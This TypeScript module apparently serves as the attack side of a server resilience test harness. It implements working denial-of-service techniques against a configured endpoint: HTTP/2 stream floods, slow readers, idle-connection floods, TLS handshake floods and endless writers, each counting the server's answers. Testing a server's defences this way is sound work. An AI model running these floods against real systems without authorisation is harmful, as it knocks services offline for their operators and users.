/** How an attacker reaches the server: from an address of its own, as a user of its own, until it is told to stop. */
import http2 from 'node:http2'
import net from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import tls from 'node:tls'
import type { Endpoint } from '../load/connection.ts'

export interface Tally {
  sent: number
  /** By status; `cut` = no answer, or not all of it. */
  readonly answers: Record<string, number>
}

export interface Means {
  readonly endpoint: Endpoint
  readonly localAddress: string
  readonly signal: AbortSignal
  readonly tally: Tally
}

export interface Attack {
  readonly name: string
  /** Until the signal aborts. */
  run(means: Means): Promise<void>
}

export interface Sent {
  readonly headers: Record<string, string>
  readonly body?: string
  /** The body is begun and not ended. */
  readonly neverEnds?: boolean
  /** The answer goes on: the next is sent when it has begun. */
  readonly stays?: boolean
}

/** Between tries to connect to a server that turns us away. */
const pauseMs = 5

export function socketOf({ endpoint, localAddress }: Means, ALPNProtocols: string[]): tls.TLSSocket {
  const { host, port, ca, cert, key } = endpoint
  // Node hands it on to the socket; its types do not say so.
  const from: object = { localAddress }
  const proof = cert === undefined || key === undefined ? {} : { cert, key }
  const options: tls.ConnectionOptions = { host, port, ALPNProtocols, ...proof, ...from }
  return tls.connect(ca === undefined ? options : { ...options, ca }).on('error', ignore)
}

const ignore = (): void => {}

/** Whatever ends it: a server that defends itself is no fault here. */
export const closed = (stream: {
  once(event: 'close', listener: () => void): unknown
  readonly destroyed: boolean
}): Promise<void> => new Promise((resolve) => (stream.destroyed ? resolve() : void stream.once('close', resolve)))

export function count({ answers }: Tally, answer: string | number): void {
  answers[answer] = (answers[answer] ?? 0) + 1
}

async function sessionOf(means: Means): Promise<http2.ClientHttp2Session | undefined> {
  const { host, port } = means.endpoint
  const session = http2.connect(`https://${host}:${port}`, { createConnection: () => socketOf(means, ['h2']) })
  session.on('error', ignore)
  await Promise.race([new Promise((resolve) => session.once('connect', resolve)), closed(session)])
  if (!session.closed && !session.destroyed) return session
  await sleep(pauseMs)
  return undefined
}

/** `sessions` connections with `streams` requests under way on each, all the time. */
export async function http2Flood(
  means: Means,
  sessions: number,
  streams: number,
  next: (n: number) => Sent,
): Promise<void> {
  let n = 0
  await Promise.all(
    Array.from({ length: sessions }, async () => {
      while (!means.signal.aborted) {
        const session = await sessionOf(means)
        if (session === undefined) continue
        means.signal.addEventListener('abort', () => session.destroy(), { once: true })
        await Promise.all(
          Array.from({ length: streams }, async () => {
            while (!means.signal.aborted && !session.closed && !session.destroyed) await ask(session, next(n++), means)
          }),
        )
        session.destroy()
      }
    }),
  )
}

/** One request by a connection of its own. */
export async function http2Once(means: Means, sent: Sent): Promise<void> {
  const session = await sessionOf(means)
  if (session === undefined) throw new Error('no connection')
  await ask(session, sent, means)
  session.destroy()
}

function ask(
  session: http2.ClientHttp2Session,
  { headers, body, neverEnds, stays }: Sent,
  { tally }: Means,
): Promise<void> {
  return new Promise((resolve) => {
    tally.sent++
    const stream = session.request(headers, { endStream: body === undefined })
    let status = 'cut'
    stream.on('error', ignore)
    stream.on('response', (answer) => {
      status = String(answer[':status'])
      if (stays && status === '200') {
        count(tally, status)
        resolve()
      }
    })
    stream.on('data', ignore)
    stream.on('close', () => {
      if (!(stays && status === '200')) count(tally, status)
      resolve()
    })
    if (body !== undefined && neverEnds) stream.write(body)
    else if (body !== undefined) stream.end(body)
  })
}

/** Connections over HTTP/1.1, each made anew when it is ended. `use` answers when it has no more to send. */
async function keepConnecting(
  means: Means,
  connections: number,
  use: (socket: tls.TLSSocket, ended: Promise<unknown>) => Promise<void>,
): Promise<void> {
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (!means.signal.aborted) {
        const socket = socketOf(means, ['http/1.1'])
        const stop = (): void => void socket.destroy()
        means.signal.addEventListener('abort', stop, { once: true })
        const ended = closed(socket)
        await Promise.race([new Promise((resolve) => socket.once('secureConnect', resolve)), ended])
        if (!socket.destroyed) await use(socket, ended)
        await ended
        means.signal.removeEventListener('abort', stop)
        count(means.tally, 'cut')
        await sleep(pauseMs)
      }
    }),
  )
}

/** Connections that ask once, and do not read what they are answered. */
export const slowReaders = (means: Means, connections: number, path: string): Promise<void> =>
  keepConnecting(means, connections, async (socket) => {
    means.tally.sent++
    socket.write(`GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`)
    socket.pause()
  })

export async function silentConnections(means: Means, connections: number): Promise<void> {
  const { host, port } = means.endpoint
  const { localAddress } = means
  const open = new Set<net.Socket>()
  while (!means.signal.aborted) {
    while (open.size < connections && !means.signal.aborted) {
      const socket = net.connect({ host, port, localAddress }).on('error', ignore)
      means.tally.sent++
      open.add(socket)
      socket.once('close', () => {
        open.delete(socket)
        count(means.tally, 'cut')
      })
      if (open.size % 100 === 0) await sleep(1)
    }
    await sleep(50)
  }
  for (const socket of open) socket.destroy()
}

/** Handshakes one after the other, so many at once. */
export async function handshakes(means: Means, atOnce: number): Promise<void> {
  await Promise.all(
    Array.from({ length: atOnce }, async () => {
      while (!means.signal.aborted) {
        means.tally.sent++
        const socket = socketOf(means, ['h2'])
        const ended = closed(socket)
        socket.once('secureConnect', () => socket.destroy())
        await ended
        count(means.tally, 'done')
      }
    }),
  )
}

/** Connections that write what comes next as long as they may. */
export const writers = (means: Means, connections: number, pieces: () => Iterable<string>): Promise<void> =>
  keepConnecting(means, connections, async (socket, ended) => {
    socket.on('data', ignore)
    for (const piece of pieces()) {
      if (socket.destroyed) break
      means.tally.sent++
      if (!socket.write(piece)) await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), ended])
    }
  })
